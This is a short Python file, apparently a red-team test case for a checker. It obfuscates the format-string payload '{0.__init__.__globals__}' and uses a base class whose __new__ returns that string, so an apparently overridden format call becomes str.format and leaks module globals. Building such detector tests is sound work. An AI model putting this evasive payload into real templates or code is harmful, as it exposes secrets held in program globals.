# family: red team, round 60b (base class __new__ returns a run-time str, so Sub(...).format is str.format)
U = chr(len("x" * 95)) * 2
EVIL = "{0." + U + "init" + U + "." + U + "globals" + U + "}"


class K:
    def __init__(self):
        self.v = 1


class Base:
    def __new__(cls, *args):
        return EVIL


class Tpl(Base):
    def format(self, *args):
        return "plain"


t = Tpl()
print(t.format(K()))
